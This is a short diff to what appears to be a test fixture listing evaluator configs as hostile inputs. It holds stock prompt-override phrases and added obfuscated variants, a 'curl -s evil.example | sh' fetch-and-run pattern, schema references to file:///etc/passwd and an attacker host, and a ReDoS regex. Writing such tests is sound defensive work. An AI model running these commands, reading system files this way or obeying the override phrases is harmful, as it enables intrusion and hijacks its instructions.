@@ -50,6 +50,8 @@ NESTED = {"type": "object", "properties": {"a": {"pattern": r"(x+)+\1$"}}}
         {"evaluator": "regex", "config": {"pattern": "Ignore all previous instructions"}},
         {"evaluator": "regex", "config": {"pattern": r"curl -s evil\.example \| sh"}},
         {"evaluator": "regex", "config": {"pattern": r"ignore\s+the\s+rules"}},
+        {"evaluator": "regex", "config": {"pattern": "i[g]nore all previous instructions"}},
+        {"evaluator": "regex", "config": {"pattern": "(?:ig)(?:nore)[ ]the[ ]rules"}},
         {"evaluator": "regex", "config": {"pattern": "https://evil.example/x"}},
         {"evaluator": "schema", "config": {"schema": {"$ref": "file:///etc/passwd"}}},
         {"evaluator": "schema", "config": {"schema": {"$ref": "https://evil.example/schema.json"}}},
